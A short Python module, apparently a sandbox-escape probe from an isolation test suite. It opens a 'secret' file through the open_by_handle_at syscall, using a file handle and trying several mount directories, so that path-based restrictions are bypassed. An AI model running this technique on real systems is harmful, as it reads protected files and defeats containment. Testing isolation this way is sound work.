"""Opens the secret by its inode and no path at all, relative to whatever folder it has."""

import ctypes
import os
import platform
import struct

OPEN = {"x86_64": 304, "aarch64": 265}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)


def attempt():
    kind, inode = TARGETS["handle"]
    handle = ctypes.create_string_buffer(struct.pack("<Ii", len(inode), kind) + inode)
    for path in filter(os.path.exists, ("/", "/usr", "/etc/hostname", "/dev/null", "/tmp", ".")):
        opened = libc.syscall(OPEN, os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
        if opened >= 0:
            return f"by {path}: {os.read(opened, 30)}"
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
